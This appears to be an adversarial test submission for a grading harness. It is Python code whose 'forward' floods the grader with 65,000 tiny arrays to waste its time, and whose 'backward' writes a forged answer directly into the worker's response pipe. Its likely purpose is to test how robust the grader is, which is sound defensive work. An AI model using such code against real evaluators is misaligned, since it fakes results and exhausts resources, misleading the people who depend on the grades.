"""Attack: make the grader spend its time (not the candidate's budget) decoding answers of
65,000 tiny arrays: forward returns them through the worker's encoder; backward writes a
forged answer of 65,000 one-element arrays straight to the worker's response pipe."""

import json
import os
import struct
import sys

import numpy as np

COUNT = 65_000


def forward(X, params):
    return [np.zeros(1) for _ in range(COUNT)], []


def backward(activations, pre_activations, Y, params):
    header = json.dumps({"ok": True, "value": {
        "v": {"t": "list", "v": [{"t": "list", "v": [{"t": "nd", "i": i} for i in range(COUNT)]},
                                 {"t": "none"}]},
        "a": [["<f8", [1], "C"]] * COUNT}}).encode()
    blob = bytes(64 * (COUNT - 1) + 8)
    fd = int(sys.argv[2])
    os.write(fd, struct.pack(">4sIQ", b"BPW2", len(header), len(blob)) + header)
    view = memoryview(blob)
    while view:
        view = view[os.write(fd, view[: 1 << 20]):]
    return []
